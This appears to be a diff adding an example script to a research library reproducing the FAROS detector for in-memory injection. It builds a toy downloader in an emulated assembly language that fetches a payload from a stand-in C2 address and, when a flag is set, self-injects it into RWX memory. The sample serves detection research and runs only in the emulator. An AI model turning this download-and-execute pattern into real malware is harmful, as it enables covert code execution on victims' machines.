@@ -1,0 +1,128 @@
+#!/usr/bin/env python3
+"""Write and analyse your own guest sample against FAROS.
+
+Shows the library as a downstream user would drive it: author a guest
+program in assembly, wrap it in a :class:`Scenario` with scripted
+external events, and run it under the FAROS plugin.  The sample here is
+a downloader that saves -- but never executes -- a payload, so FAROS
+correctly stays quiet; flip ``EXECUTE_PAYLOAD`` to True to turn it into
+a self-injector and watch the verdict change.
+
+Run:  python examples/analyze_custom_sample.py
+"""
+
+from repro import Faros, Scenario
+from repro.attacks.common import assemble_image
+from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent
+from repro.guestos import layout
+
+#: Flip to True to make the sample execute what it downloads.
+EXECUTE_PAYLOAD = False
+
+C2_IP, C2_PORT, GUEST_IP = "10.6.6.6", 8443, "169.254.57.168"
+
+
+def build_sample(payload_size: int, execute: bool) -> str:
+    maybe_execute = (
+        f"""
+        ; self-inject: copy into RWX memory and run it
+        movi r1, {payload_size}
+        movi r2, PERM_RWX
+        movi r0, SYS_ALLOC
+        syscall
+        mov r6, r0
+        movi r1, buf
+        mov r2, r6
+        movi r3, {payload_size}
+    inj:
+        ldb r4, [r1]
+        stb [r2], r4
+        addi r1, r1, 1
+        addi r2, r2, 1
+        subi r3, r3, 1
+        cmpi r3, 0
+        jnz inj
+        addi r6, r6, {PAYLOAD_ENTRY_OFFSET}
+        callr r6
+        """
+        if execute
+        else """
+        ; benign-ish: just drop it to disk
+        movi r1, drop_path
+        movi r0, SYS_CREATE_FILE
+        syscall
+        mov r1, r0
+        movi r2, buf
+        movi r3, {size}
+        movi r0, SYS_WRITE_FILE
+        syscall
+        """.replace("{size}", str(payload_size))
+    )
+    return f"""
+    start:
+        movi r0, SYS_SOCKET
+        syscall
+        mov r7, r0
+        mov r1, r7
+        movi r2, c2
+        movi r3, {C2_PORT}
+        movi r0, SYS_CONNECT
+        syscall
+        movi r4, buf
+        movi r5, {payload_size}
+    rx:
+        mov r1, r7
+        mov r2, r4
+        mov r3, r5
+        movi r0, SYS_RECV
+        syscall
+        add r4, r4, r0
+        sub r5, r5, r0
+        cmpi r5, 0
+        jnz rx
+{maybe_execute}
+        movi r1, 0
+        movi r0, SYS_EXIT
+        syscall
+    c2: .asciz "{C2_IP}"
+    drop_path: .asciz "C:\\\\payload.bin"
+    buf: .space {payload_size}
+    """
+
+
+def main() -> None:
+    payload = build_popup_payload(layout.HEAP_BASE).code
+
+    def setup(machine):
+        machine.kernel.register_image(
+            "sample.exe", assemble_image(build_sample(len(payload), EXECUTE_PAYLOAD))
+        )
+        machine.kernel.spawn("sample.exe")
+
+    scenario = Scenario(
+        name="custom_sample",
+        setup=setup,
+        events=[
+            (15_000, PacketEvent(Packet(C2_IP, C2_PORT, GUEST_IP, 49152, payload)))
+        ],
+        max_instructions=400_000,
+    )
+
+    faros = Faros()
+    machine = scenario.run(plugins=[faros])
+    report = faros.report()
+    print(report.render())
+    print()
+    mode = "self-injecting" if EXECUTE_PAYLOAD else "download-only"
+    print(f"[*] sample mode: {mode}")
+    print(f"[*] FAROS verdict: {'FLAGGED' if report.attack_detected else 'clean'}")
+    if not EXECUTE_PAYLOAD:
+        node = machine.kernel.fs.get("C:\\payload.bin")
+        print(f"[*] dropped file present: {node is not None} "
+              "(saving tainted bytes is fine; executing them is not)")
+
+
+if __name__ == "__main__":
+    main()
